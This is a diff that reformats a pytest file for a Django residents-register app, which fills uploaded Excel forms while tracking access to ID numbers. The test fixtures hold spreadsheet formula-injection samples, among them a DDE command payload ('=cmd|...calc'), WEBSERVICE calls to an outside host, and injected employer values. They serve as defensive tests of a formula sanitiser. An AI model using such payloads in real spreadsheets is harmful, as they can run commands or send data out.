@@ -23,9 +23,11 @@ def people(ground):
     return [
         factories.resident(home, name=name, phone="13812346210", employer=employer)
         for name, employer in [
-            ("王秀兰", "=1+1"), ("李建国", "枣矿集团"), ("张三", "@SUM(A1)"),
+            ("王秀兰", "=1+1"),
+            ("李建国", "枣矿集团"),
+            ("张三", "@SUM(A1)"),
         ]
-    ]  # fmt: skip
+    ]
 
 
 def form(*, empty_rows=2, heads_in=4, extra=None):
@@ -38,9 +40,7 @@ def form(*, empty_rows=2, heads_in=4, extra=None):
     sheet["A1"].font = Font(bold=True, size=18)
     sheet["A2"] = "填报单位："
     top, low = heads_in - 1, heads_in
-    for column, head in zip(
-        "ADEF", ["序号", "身份证号码", "工作单位", "是否参保"], strict=True
-    ):
+    for column, head in zip("ADEF", ["序号", "身份证号码", "工作单位", "是否参保"], strict=True):
         sheet.merge_cells(f"{column}{top}:{column}{low}")
         sheet[f"{column}{top}"] = head
     sheet.merge_cells(f"B{top}:C{top}")
@@ -59,9 +59,7 @@ def form(*, empty_rows=2, heads_in=4, extra=None):
     foot = first + empty_rows
     sheet.merge_cells(f"A{foot}:B{foot}")
     sheet[f"A{foot}"] = "合计"
-    sheet[f"C{foot}"] = (
-        f"=COUNTA(C{first}:C{foot - 1})" if empty_rows else "=SUM(A1:A2)"
-    )
+    sheet[f"C{foot}"] = f"=COUNTA(C{first}:C{foot - 1})" if empty_rows else "=SUM(A1:A2)"
     sheet[f"D{foot}"] = '=WEBSERVICE("http://example.org/?"&B5)'
     sheet.merge_cells(f"A{foot + 1}:F{foot + 1}")
     sheet[f"A{foot + 1}"] = "审核人：      填表人："
@@ -96,9 +94,7 @@ def rows(sheet, first, last):
     ]
 
 
-def test_the_form_comes_back_in_its_own_layout_with_the_rows(
-    client, ground, people, enter
-):
+def test_the_form_comes_back_in_its_own_layout_with_the_rows(client, ground, people, enter):
     enter("grid_leader", ground[0])
 
     answer = send(client, upload(form()))
@@ -136,17 +132,21 @@ def test_no_cell_of_ours_is_a_formula_and_the_senders_may_only_add_up(
 
 @pytest.mark.parametrize(
     ("formula", "is_fine"),
-    [("=SUM(B2:B9)", True), ("=IF(A1>3,1,0)", True), ("=WEBSERVICE(A1)", False),
-     ("=[1]Sheet1!A1", False), ("=cmd|'/c calc'!A0", False), ("=INDIRECT(A1)", False),
-     ('="x"&A1', False)],
-)  # fmt: skip
+    [
+        ("=SUM(B2:B9)", True),
+        ("=IF(A1>3,1,0)", True),
+        ("=WEBSERVICE(A1)", False),
+        ("=[1]Sheet1!A1", False),
+        ("=cmd|'/c calc'!A0", False),
+        ("=INDIRECT(A1)", False),
+        ('="x"&A1', False),
+    ],
+)
 def test_a_formula_stays_only_if_it_adds_up(formula, is_fine):
     assert fill.is_harmless(formula) is is_fine
 
 
-def test_what_the_register_does_not_know_stays_empty_and_is_named(
-    client, ground, people, enter
-):
+def test_what_the_register_does_not_know_stays_empty_and_is_named(client, ground, people, enter):
     enter("grid_leader", ground[0])
 
     answer = send(client, upload(form()))
@@ -157,9 +157,7 @@ def test_what_the_register_does_not_know_stays_empty_and_is_named(
 
 
 @pytest.mark.parametrize("heads_in", [4, 9, 20])
-def test_the_head_is_found_anywhere_in_the_first_20_rows(
-    client, ground, people, enter, heads_in
-):
+def test_the_head_is_found_anywhere_in_the_first_20_rows(client, ground, people, enter, heads_in):
     enter("grid_leader", ground[0])
 
     send(client, upload(form(heads_in=heads_in)))
@@ -197,9 +195,7 @@ def test_a_plain_row_of_heads_is_enough(client, ground, people, enter):
     assert sheet.max_row == 4
 
 
-def test_full_numbers_are_filled_in_only_on_demand_and_on_record(
-    client, ground, people, enter
-):
+def test_full_numbers_are_filled_in_only_on_demand_and_on_record(client, ground, people, enter):
     leader = enter("grid_leader", ground[0])
     people[0].refresh_from_db()
     number = people[0].id_sealed.reveal()
@@ -212,18 +208,14 @@ def test_full_numbers_are_filled_in_only_on_demand_and_on_record(
     cell = filled(client)["采集表"]["D5"]
     assert (cell.value, cell.data_type) == (number, "s")
     records = AccessRecord.objects.filter(field="id_number", by=leader)
-    assert sorted(records.values_list("resident", flat=True)) == [
-        one.pk for one in people
-    ]
+    assert sorted(records.values_list("resident", flat=True)) == [one.pk for one in people]
     assert set(records.values_list("purpose", flat=True)) == {"街道要求"}
 
 
 def test_only_the_rows_asked_for_are_filled_in(client, ground, people, enter):
     enter("grid_leader", ground[0].parent)
     stranger = factories.resident(grid=ground[1], name="李四", kind="floating")
-    factories.resident(
-        grid=factories.unit("520602003003001"), name="外地人", kind="floating"
-    )
+    factories.resident(grid=factories.unit("520602003003001"), name="外地人", kind="floating")
 
     client.post(
         f"{reverse('residents:fill')}?subject=residents&kind=floating",
@@ -238,10 +230,15 @@ def test_only_the_rows_asked_for_are_filled_in(client, ground, people, enter):
 
 @pytest.mark.parametrize(
     ("subject", "heads", "expected"),
-    [("households", ["户主姓名", "家庭人口数", "楼栋", "室号"], ["王秀兰", 3, "1号楼"]),
-     ("premises", ["企业名称", "法定代表人", "从业人数", "统一社会信用代码"],
-      ["利民超市", "王秀兰", 4])],
-)  # fmt: skip
+    [
+        ("households", ["户主姓名", "家庭人口数", "楼栋", "室号"], ["王秀兰", 3, "1号楼"]),
+        (
+            "premises",
+            ["企业名称", "法定代表人", "从业人数", "统一社会信用代码"],
+            ["利民超市", "王秀兰", 4],
+        ),
+    ],
+)
 def test_forms_of_households_and_premises_are_filled(
     client, ground, people, enter, subject, heads, expected
 ):
@@ -259,11 +256,16 @@ def test_forms_of_households_and_premises_are_filled(
 
 @pytest.mark.parametrize(
     ("file", "word"),
-    [(SimpleUploadedFile("a.xlsx", b"no workbook"), "另存为 .xlsx"),
-     (SimpleUploadedFile("a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"0" * 600), "另存为 .xlsx"),
-     (upload(openpyxl.Workbook()), "没有找到"),
-     (SimpleUploadedFile("a.xlsx", b"PK\x03\x04" + b"0" * (forms.MAX_BYTES + 1)), "太大")],
-)  # fmt: skip
+    [
+        (SimpleUploadedFile("a.xlsx", b"no workbook"), "另存为 .xlsx"),
+        (
+            SimpleUploadedFile("a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"0" * 600),
+            "另存为 .xlsx",
+        ),
+        (upload(openpyxl.Workbook()), "没有找到"),
+        (SimpleUploadedFile("a.xlsx", b"PK\x03\x04" + b"0" * (forms.MAX_BYTES + 1)), "太大"),
+    ],
+)
 def test_what_is_no_form_is_refused_with_a_sentence(client, ground, enter, file, word):
     enter("grid_leader", ground[0])
     file.seek(0)
@@ -284,9 +286,7 @@ def test_who_may_not_export_fills_no_form(client, ground, people, enter, role):
     assert not Export.objects.exists()
 
 
-def test_care_is_filled_in_only_for_those_who_may_read_it(
-    client, ground, people, enter
-):
+def test_care_is_filled_in_only_for_those_who_may_read_it(client, ground, people, enter):
     factories.care_record(people[0])
     book = openpyxl.Workbook()
     book.active.append(["姓名", "年龄", "特殊群体类别"])
